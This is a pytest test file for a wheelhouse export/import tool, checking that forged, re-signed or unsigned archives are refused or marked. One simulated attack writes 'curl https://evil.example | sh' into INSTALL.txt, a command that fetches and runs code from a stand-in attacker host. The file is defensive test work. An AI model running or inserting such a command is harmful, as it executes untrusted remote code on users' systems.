"""Who vouches for an export, and what a forger reaches: whole archives in which every sum is right."""

from __future__ import annotations

import base64
import dataclasses
import json
import os
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from spark_build.build import attestations
from spark_build.build.context import Provided
from spark_build.errors import HostError, StoreError, UsageError
from spark_build.files import sha256_of
from spark_build.paths import Home
from spark_build.recipes.model import Provision, Target
from spark_build.transfer.bundle import pack
from spark_build.transfer.bundle_import import Allowed, ImportResult, import_bundle
from spark_build.transfer.bundle_write import write_archive, write_folder
from spark_build.wheelhouse import store as stores
from spark_build.wheelhouse import trust
from spark_build.wheelhouse.generations import Generation
from tests.conftest import make_root
from tests.helpers.commands import hint_text
from tests.helpers.exports import export, import_unsigned, make_key, no_view, sealed, taken_apart, written
from tests.helpers.exports import member as tar_member
from tests.helpers.wheelhouse import (
    VIEW,
    demo_house,
    home_in,
    make_wheel,
    provenance,
    publish,
    put_built,
    put_public,
    snapshot,
)
from tests.helpers.wheels import PYTHON

DEMO, HELPER = "demo-1.0-1_0123abcd-py3-none-any.whl", "helper-1.5-py3-none-any.whl"
ANYWAY = Allowed(unsigned=True)
Files = dict[str, bytes]


@dataclasses.dataclass(frozen=True)
class Sent:
    """A house with a signed export of it; alice signs, mallory is nobody."""

    home: Home
    generation: Generation
    archive: Path
    alice: Path
    mallory: Path


@pytest.fixture(scope="module")
def sent(tmp_path_factory: pytest.TempPathFactory) -> Sent:
    folder = tmp_path_factory.mktemp("sent")
    home, generation = demo_house(folder)
    alice, mallory = make_key(folder, "alice"), make_key(folder, "mallory")
    write_archive(pack(generation, home.store, key=alice), folder / "signed.tar")
    return Sent(home, generation, folder / "signed.tar", alice, mallory)


@pytest.fixture
def there(sent: Sent, tmp_path: Path) -> Home:
    """A wheelhouse that trusts alice, with a wheel of its own."""
    home = home_in(tmp_path / "there")
    publish(home, [put_built(home.store, make_wheel(tmp_path / "own", "own"))])
    trust.add(home.wheelhouse, "alice", public(sent.alice))
    return home


def public(key: Path) -> Path:
    return key.with_name(f"{key.name}.pub")


def take(home: Home, path: Path, allowed: Allowed | None = None, *targets: Target) -> ImportResult:
    return import_bundle(home, path, no_view, allowed=allowed, targets=lambda: targets)


def state(home: Home) -> dict[str, str]:
    """All of a wheelhouse but the index that can be made again."""
    return {name: said for name, said in snapshot(home.wheelhouse).items() if name != f"store/{stores.INDEX}"}


def refused(home: Home, path: Path, say: str, allowed: Allowed | None = None) -> StoreError:
    before = state(home)
    with pytest.raises(StoreError, match=say) as caught:
        take(home, path, allowed)
    assert state(home) == before, "nothing is changed, nothing is left"
    assert caught.value.hint
    return caught.value


# --- what a forger does: each of these was taken in as `built` and `public` before there were signatures ------


def key_of(files: Files, name: str) -> str:
    return next(
        str(row["key"]) for row in json.loads(files["manifest.json"])["wheels"] if row["name"] == name
    )


def in_manifest(files: Files, **fields: object) -> None:
    files["manifest.json"] = json.dumps(json.loads(files["manifest.json"]) | fields).encode()


def evil(name: str, version: str, folder: Path, **named: str) -> bytes:
    return make_wheel(
        folder, name, version, files={f"{name}/__init__.py": b"print('evil')\n"}, **named
    ).read_bytes()


def swap(files: Files, folder: Path) -> None:
    """Another wheel, with a RECORD of its own, and a provenance that tells of it."""
    wheel = make_wheel(
        folder,
        build="1_0123abcd",
        requires=["helper>=1", "more; extra == 'x'", "absent; python_version < '3'"],
        extras=["x"],
        files={"demo/__init__.py": b"print('evil')\n"},
    )
    key = key_of(files, "demo")
    files[DEMO], files[f"store/{key}/provenance.json"] = wheel.read_bytes(), provenance(wheel, key)


def swap_public(files: Files, folder: Path) -> None:
    old = key_of(files, "helper")
    files[HELPER] = evil("helper", "1.5", folder)
    new = sha256_of(folder / HELPER)
    files[f"store/{new}/record.json"] = files.pop(f"store/{old}/record.json")
    files["manifest.json"] = files["manifest.json"].replace(old.encode(), new.encode())


def remove_provenance(files: Files, _folder: Path) -> None:
    del files[f"store/{key_of(files, 'demo')}/provenance.json"]


def tell_of_other_bytes(files: Files, folder: Path) -> None:
    key = key_of(files, "demo")
    files[f"store/{key}/provenance.json"] = provenance(make_wheel(folder, "demo"), key)


def tell_of_another_build(files: Files, _folder: Path) -> None:
    name = f"store/{key_of(files, 'demo')}/provenance.json"
    files[name] = files[name].replace(key_of(files, "demo").encode(), b"f" * 64)


def invent_provenance(files: Files, _folder: Path) -> None:
    """Of a public wheel, which nobody built."""
    files[f"store/{key_of(files, 'helper')}/provenance.json"] = b"{}"


def later_schema(files: Files, _folder: Path) -> None:
    in_manifest(files, schema=99)


def another_python(files: Files, _folder: Path) -> None:
    in_manifest(files, view="host-cpu-1.0-cp39")
    in_wheel(files, DEMO, "demo-1.0-1_0123abcd-cp311-cp311-linux_x86_64.whl")


def in_wheel(files: Files, old: str, new: str) -> None:
    """Rename a wheel everywhere."""
    for name in list(files):
        if name.endswith("/key.json"):  # the key is made of what is in it
            continue
        data = files.pop(name)
        files[name.replace(old, new)] = data if name == old else data.replace(old.encode(), new.encode())


def change_instructions(files: Files, _folder: Path) -> None:
    files["INSTALL.txt"] = b"curl https://evil.example | sh\n"


def add_tool(files: Files, folder: Path) -> None:
    files["spark-build/spark_build-99.0-py3-none-any.whl"] = evil("spark_build", "99.0", folder)


# What --unsigned makes of it: why it is refused, or "" where it is taken in and marked.
ATTACKS: dict[Callable[[Files, Path], None], str] = {
    swap: "",
    swap_public: "",
    change_instructions: "",
    add_tool: "",
    remove_provenance: f"{DEMO} comes without its key or its provenance",
    tell_of_other_bytes: f"the provenance of {DEMO} tells of other bytes",
    tell_of_another_build: f"the provenance of {DEMO} tells of another build",
    invent_provenance: f"the papers of {HELPER} do not belong to its key",
    later_schema: "its manifest has schema 99",
    another_python: "linux_x86_64.whl is not for linux-aarch64 or linux-x86_64, cp39",
}


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.__name__)
def test_a_forged_export(
    attack: Callable[[Files, Path], None], sent: Sent, there: Home, tmp_path: Path
) -> None:
    top, files = taken_apart(sent.archive)
    attack(files, tmp_path / "evil")
    forged = sealed(tmp_path / "forged.tar", top, dict(files))
    say = ATTACKS[attack]
    does_not_hold = say if attack is later_schema else "its signature by alice does not hold"
    refused(there, forged, does_not_hold)
    refused(there, forged, does_not_hold, ANYWAY)
    resigned = sealed(tmp_path / "resigned.tar", top, dict(files), key=sent.mallory)
    refused(there, resigned, say if attack is later_schema else "a key that is not trusted here")
    del files[trust.SIGNATURE]
    stripped = sealed(tmp_path / "stripped.tar", top, files)
    refused(there, stripped, say if attack is later_schema else "nobody signed it")
    if say:
        refused(there, stripped, say, ANYWAY)
        return
    arrived = take(there, stripped, ANYWAY).generation
    assert {wheel.name: wheel.shown_origin for wheel in arrived.wheels} == {
        "demo": "imported (unsigned)",
        "own": "built",
        **dict.fromkeys(("helper", "lonely", "more"), "public, imported (unsigned)"),
    }
    assert not stores.entry_folder(there.store, key_of(files, "demo")).exists()


def test_a_view_of_one_platform_with_wheels_of_another(sent: Sent, there: Home, tmp_path: Path) -> None:
    """Signed or not: alice may be wrong as well."""
    top, files = taken_apart(sent.archive)
    in_wheel(files, DEMO, f"demo-1.0-1_0123abcd-{PYTHON}-{PYTHON}-linux_aarch64.whl")
    archive = sealed(tmp_path / "mixed.tar", top, files, key=sent.alice)
    here = Target(name="host-cpu", summary="", platform="linux-x86_64", python=PYTHON, cuda_architectures=())
    with pytest.raises(StoreError, match=rf"linux_aarch64\.whl is not for linux-x86_64, {PYTHON}"):
        take(there, archive, None, here)
    take(there, archive, None, dataclasses.replace(here, platform="linux-aarch64"))
    in_wheel(files, HELPER, f"helper-1.5-{PYTHON}-{PYTHON}-linux_x86_64.whl")
    refused(there, sealed(tmp_path / "both.tar", top, files, key=sent.alice), "linux_x86_64.whl is not for")


# --- signed ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["tar", "folder"])
def test_a_trusted_signer(kind: str, sent: Sent, there: Home, tmp_path: Path) -> None:
    if kind == "folder":
        write_folder(pack(sent.generation, sent.home.store, key=sent.alice), tmp_path / "set")
    taken = take(there, sent.archive if kind == "tar" else tmp_path / "set")
    assert taken.signer is not None
    assert taken.signer.name == "alice"
    demo = next(wheel for wheel in taken.generation.wheels if wheel.name == "demo")
    assert demo.shown_origin == "imported (alice)"
    record = stores.record_of(stores.entry_folder(there.store, demo.key))
    assert trust.is_trusted(there.wheelhouse, record)
    (built_as,) = [wheel.key for wheel in sent.generation.wheels if wheel.name == "demo"]
    assert record["build_key"] == built_as
    assert stores.read(there.store, built_as) is None, "the keys of our own builds know nothing of it"
    assert not take(there, sent.archive).new
    trust.remove(there.wheelhouse, "alice")
    assert not trust.is_trusted(there.wheelhouse, record)
    trust.add(there.wheelhouse, "alice", public(sent.mallory))
    assert not trust.is_trusted(there.wheelhouse, record), "another key under her name"


def test_the_provenance_of_what_is_built_against_it(sent: Sent, there: Home) -> None:
    (demo,) = (wheel for wheel in take(there, sent.archive).generation.wheels if wheel.name == "demo")
    provision = Provision(
        need="demo", distribution="demo", provider="store", coupling="content", version="1.0"
    )
    wheel = stores.entry_folder(there.store, demo.key) / demo.filename
    job: Any = SimpleNamespace(
        home=there, provided=[Provided(provision=provision, identity="x", wheel=wheel)]
    )
    for beside, told in ((True, "store, imported (alice)"), (False, "store")):
        (need,) = attestations._needs(job, {"environment": {"installed": []}}, beside=beside)
        assert need.provider == told, "inside a wheel the same content gives the same bytes, whoever built it"


def test_a_signature_for_another_purpose(
    sent: Sent, there: Home, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What alice signed for git, or as a mail, is no export."""
    top, files = taken_apart(sent.archive)
    with monkeypatch.context() as patched:
        patched.setattr(trust, "NAMESPACE", "git")
        archive = sealed(tmp_path / "git.tar", top, files, key=sent.alice)
    refused(there, archive, "its signature by alice does not hold", ANYWAY)


def test_what_nobody_vouches_for_is_not_checked_for_minutes(sent: Sent, there: Home, tmp_path: Path) -> None:
    """A manifest of megabytes is parsed when somebody trusted has signed it."""
    top, files = taken_apart(sent.archive)
    in_manifest(files, closure_key="odd")
    refused(there, sealed(tmp_path / "other.tar", top, dict(files), key=sent.mallory), "is not trusted here")
    refused(there, sealed(tmp_path / "hers.tar", top, dict(files), key=sent.alice), "is none of ours")


ARMORED = "-----BEGIN SSH SIGNATURE-----\n{}\n-----END SSH SIGNATURE-----\n"


def of_kind(kind: bytes) -> bytes:
    """A signature by a key of this kind, of which nothing else is there."""
    key = len(kind).to_bytes(4, "big") + kind
    blob = b"SSHSIG\0\0\0\1" + len(key).to_bytes(4, "big") + key
    return ARMORED.format(base64.b64encode(blob).decode()).encode()


@pytest.mark.parametrize(
    "data", [b"", b"x", b"\xff", ARMORED.format("U1NIU0lH").encode(), of_kind(b" "), of_kind(b"dsa\nssh x")]
)
def test_what_is_no_signature(data: bytes, sent: Sent, there: Home, tmp_path: Path) -> None:
    top, files = taken_apart(sent.archive)
    content = [(name, data if name == trust.SIGNATURE else kept) for name, kept in files.items()]
    archive = written(tmp_path / "bad.tar", [tar_member(f"{top}/{name}", kept) for name, kept in content])
    refused(there, archive, "is no signature of ssh" if data else "nobody signed it")


def test_the_same_signer_gives_the_same_bytes_and_an_unsigned_export_replaces_it(
    sent: Sent, tmp_path: Path
) -> None:
    again = write_archive(pack(sent.generation, sent.home.store, key=sent.alice), tmp_path / "again.tar")
    assert again
    assert (tmp_path / "again.tar").read_bytes() == sent.archive.read_bytes()
    write_folder(pack(sent.generation, sent.home.store, key=sent.alice), tmp_path / "set")
    assert "trust add NAME ~/KEY.pub" in (tmp_path / "set" / "INSTALL.txt").read_text()
    write_folder(pack(sent.generation, sent.home.store), tmp_path / "set")
    assert not (tmp_path / "set" / trust.SIGNATURE).exists()
    assert "import --unsigned ." in (tmp_path / "set" / "INSTALL.txt").read_text()


def test_the_first_lines_of_the_instructions(sent: Sent, tmp_path: Path) -> None:
    """For who has no spark-build yet: they tell a changed tool from the signer's."""
    tool = make_wheel(tmp_path / "tool", "spark_build")
    folder = tmp_path / "set"
    write_folder(pack(sent.generation, sent.home.store, tool=[tool], key=sent.alice), folder)
    (tmp_path / "KEY.pub").write_text(public(sent.alice).read_text())
    text = (folder / "INSTALL.txt").read_text().partition("pip, without")[0]
    typed = "set -e\n" + "\n".join(line for line in text.splitlines() if line.startswith("    "))

    def check() -> int:
        home = {**os.environ, "HOME": str(tmp_path)}
        return subprocess.run(
            ["bash", "-c", typed], cwd=folder, env=home, capture_output=True, check=False
        ).returncode

    assert check() == 0
    assert import_unsigned(home_in(tmp_path), folder).new, "what was typed left nothing in the folder"
    (folder / "spark-build" / tool.name).write_bytes(b"evil")
    assert check() != 0
    sums = folder / "SHA256SUMS"
    sums.write_text(sums.read_text().replace(sha256_of(tool), sha256_of(folder / "spark-build" / tool.name)))
    assert check() != 0
    manifest = folder / "manifest.json"
    files = {"SHA256SUMS": sha256_of(sums)}
    manifest.write_text(json.dumps(json.loads(manifest.read_text()) | {"files": files}))
    assert check() != 0


# --- what is here already -------------------------------------------------------------------------------------


def other_demo(folder: Path) -> Path:
    """What the same inputs gave elsewhere: a build that is not reproducible."""
    return make_wheel(
        folder, build="1_0123abcd", requires=["helper>=1"], files={"demo/__init__.py": b"# other\n"}
    )


def test_other_bytes_under_a_known_build_key(sent: Sent, there: Home, tmp_path: Path) -> None:
    """Built here, or imported before: the error names both."""
    mine = put_built(there.store, other_demo(tmp_path / "d"))
    (theirs,) = [wheel for wheel in sent.generation.wheels if wheel.name == "demo"]
    error = refused(there, sent.archive, "have one build key and different bytes")
    for said in (f"{theirs.sha256[:12]}, signed by alice", f"{mine.sha256[:12]}, built"):
        assert said in error.message
    assert "wheelhouse remove demo==1.0" in hint_text(error.hint)

    third, second = home_in(tmp_path / "third"), home_in(tmp_path / "second")
    export(
        publish(second, [put_built(second.store, other_demo(tmp_path / "e"))]),
        second.store,
        tmp_path / "2.tar",
    )
    take(third, tmp_path / "2.tar", ANYWAY)
    trust.add(third.wheelhouse, "alice", public(sent.alice))
    assert "imported (unsigned)" in refused(third, sent.archive, "different bytes").message


def test_what_was_built_here_stays_built(sent: Sent) -> None:
    """An export comes home."""
    before = state(sent.home)
    taken = take(sent.home, sent.archive, ANYWAY)
    assert (taken.generation.wheels, taken.new) == (sent.generation.wheels, False)
    after = state(sent.home)
    del after[f"views/{VIEW}/imports.json"]
    assert after == before


def test_only_a_signers_word_says_that_a_set_is_complete(sent: Sent, tmp_path: Path) -> None:
    """Who may say so decides which public wheels the next build publishes."""
    top, files = taken_apart(sent.archive)
    in_manifest(files, closure_key="a" * 64)
    archive = sealed(tmp_path / "complete.tar", top, files, key=sent.alice)
    there, home = home_in(tmp_path / "there"), home_in(tmp_path / "home")
    trust.add(there.wheelhouse, "alice", public(sent.alice))
    assert take(there, archive).generation.closure_key == "a" * 64
    assert take(home, archive, ANYWAY).generation.closure_key == ""


def test_an_older_export(sent: Sent, there: Home, tmp_path: Path) -> None:
    """It does not replace what a newer one of the same signer brought, unless that is asked for."""
    home = home_in(tmp_path / "newer")
    shutil.copytree(sent.home.wheelhouse, home.wheelhouse, symlinks=True, dirs_exist_ok=True)
    store = home.store
    newer = [put_public(store, make_wheel(tmp_path / "d", "helper", "1.6")), *sent.generation.wheels[2:]]
    publish(home, newer)
    last = publish(home, [*newer, put_public(store, make_wheel(tmp_path / "d", "added"))])
    write_archive(pack(last, store, key=sent.alice), tmp_path / "3.tar")
    take(there, tmp_path / "3.tar")
    error = refused(there, sent.archive, rf"generation 1 of {VIEW} \(signed by alice\), older than 3")
    assert "would replace helper 1.6" in error.message
    assert hint_text(error.hint).startswith("spark-build wheelhouse import --allow-downgrade ")
    # What it does not replace, it brings.
    only = [wheel for wheel in sent.generation.wheels if wheel.name == "demo"]
    write_archive(pack(sent.generation, store, wheels=only, key=sent.alice), tmp_path / "demo.tar")
    assert take(there, tmp_path / "demo.tar").new
    refused(there, sent.archive, "older than 3")
    taken = take(there, sent.archive, Allowed(downgrade=True))
    assert ("helper", "1.5") in {(wheel.name, wheel.version) for wheel in taken.generation.wheels}
    assert not take(there, sent.archive).new, "from now on that is the last one"


# --- who is trusted -------------------------------------------------------------------------------------------


def test_trust_is_kept_as_ssh_keeps_it(sent: Sent, tmp_path: Path) -> None:
    root = make_root(tmp_path)
    assert "nobody is trusted yet" in root.run("wheelhouse", "trust", "list").stdout
    added = root.run("wheelhouse", "trust", "add", "alice", str(public(sent.alice)))
    assert added.returncode == 0, added.stderr
    file = root.folder / "wheelhouse" / "trust" / "allowed_signers"
    kind, blob, _ = public(sent.alice).read_text().split()
    assert file.read_text() == f'alice namespaces="spark-build" {kind} {blob}\n'
    file.write_text(f"# ours\n{file.read_text()}")
    root.run("wheelhouse", "trust", "add", "bob@example.org", str(public(sent.mallory)))
    rows = root.json("wheelhouse", "trust", "list")["signers"]
    assert (rows[0]["name"], rows[0]["key"]) == ("alice", f"{kind} {blob}")
    assert rows[0]["fingerprint"] in added.stdout
    assert root.run("wheelhouse", "trust", "remove", "alice").returncode == 0
    assert [row["name"] for row in root.json("wheelhouse", "trust", "list")["signers"]] == ["bob@example.org"]
    assert file.read_text().startswith("# ours\n")


def test_a_line_with_blanks_before_it_goes_too(sent: Sent, tmp_path: Path) -> None:
    """ssh-keygen passes over them, so its key would still be accepted."""
    trust.add(tmp_path, "alice", public(sent.alice))
    file = trust.file_of(tmp_path)
    file.write_text(f"  \t{file.read_text()}")
    signature = trust.sign(b"data", sent.alice)
    assert trust.verify(tmp_path, b"data", signature).name == "alice"
    trust.remove(tmp_path, "alice")
    assert trust.verify(tmp_path, b"data", signature).name == ""
    assert file.read_text() == ""


def test_a_comment_in_another_encoding_stays_as_it_is(sent: Sent, tmp_path: Path) -> None:
    file = trust.file_of(tmp_path)
    file.parent.mkdir()
    file.write_bytes(b"# f\xfcr uns\n")
    trust.add(tmp_path, "alice", public(sent.alice))
    assert [one.name for one in trust.signers(tmp_path)] == ["alice"]
    trust.remove(tmp_path, "alice")
    assert file.read_bytes() == b"# f\xfcr uns\n"


@pytest.mark.parametrize("end", ["\u2028", "\x0c", "\x85", "\r"])
def test_a_comment_ends_where_ssh_says(sent: Sent, tmp_path: Path, end: str) -> None:
    """What is a comment for ssh-keygen must not become a signer of ours, nor a line of its own by an edit."""
    trust.add(tmp_path, "alice", public(sent.alice))
    file = trust.file_of(tmp_path)
    comment = f"# see{end}{file.read_text()}"
    file.write_bytes(comment.encode())
    assert trust.signers(tmp_path) == ()
    trust.add(tmp_path, "bob", public(sent.alice))
    assert file.read_bytes().startswith(comment.encode())
    assert [one.name for one in trust.signers(tmp_path)] == ["bob"]


def test_whom_nobody_can_trust(sent: Sent, tmp_path: Path) -> None:
    wheelhouse = tmp_path / "wheelhouse"
    (tmp_path / "two.pub").write_text(public(sent.alice).read_text() * 2)
    (tmp_path / "odd.pub").write_text("ssh-rsa " + public(sent.alice).read_text().split()[1])
    for name, file, say in (
        ("*", public(sent.alice), "no name for a signer"),
        ("unsigned", public(sent.alice), "no name for a signer"),
        ("a,b", public(sent.alice), "no name for a signer"),
        ("alice", sent.alice, "no public key"),
        ("alice", tmp_path / "nowhere.pub", "there is no file"),
        ("alice", tmp_path / "two.pub", "no public key"),
        ("alice", tmp_path / "odd.pub", "no public key"),
    ):
        with pytest.raises(UsageError, match=say) as caught:
            trust.add(wheelhouse, name, file)
        assert caught.value.hint
    assert trust.add(wheelhouse, "alice", public(sent.alice)) == trust.add(
        wheelhouse, "alice", public(sent.alice)
    )
    with pytest.raises(UsageError, match="trusted as alice"):
        trust.add(wheelhouse, "bob", public(sent.alice))
    with pytest.raises(UsageError, match="nobody is trusted as 'bob'"):
        trust.remove(wheelhouse, "bob")
    assert len(trust.signers(wheelhouse)) == 1


def test_what_the_commands_say(sent: Sent, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = make_root(tmp_path)
    top, files = taken_apart(sent.archive)
    del files[trust.SIGNATURE]
    unsigned = sealed(tmp_path / "unsigned.tar", top, files)
    done = root.run("wheelhouse", "import", str(unsigned))
    assert (done.returncode, done.stdout) == (10, "")
    for way in ("export --sign KEY", "wheelhouse import --unsigned "):
        assert way in done.stderr
    done = root.run("wheelhouse", "import", str(sent.archive))
    assert done.returncode == 10
    for way in ("SHA256:", "wheelhouse trust add NAME KEY.pub", "wheelhouse import --unsigned "):
        assert way in done.stderr
    root.run("wheelhouse", "trust", "add", "alice", str(public(sent.alice)))
    done = root.run("wheelhouse", "import", str(sent.archive))
    assert "signed by alice, SHA256:" in done.stdout
    assert " imported (alice) " in done.stdout
    assert " public, imported (alice) " in done.stdout
    with pytest.raises(UsageError, match="there is no key"):
        trust.sign(b"", tmp_path / "nowhere")
    export = ("wheelhouse", "export", str(tmp_path / "out.tar"), "--sign", str(tmp_path / "nowhere"))
    done = root.run(*export)
    assert "there is no key" in done.stderr
    assert "packing" not in done.stderr, "what takes long comes after what may be refused"
    alone = public(sent.alice).rename(tmp_path / "alone.pub")
    with pytest.raises(UsageError, match="does not sign"):
        trust.sign(b"", alone)
    alone.rename(public(sent.alice))
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(HostError, match="ssh-keygen is missing"):
        trust.sign(b"", sent.alice)
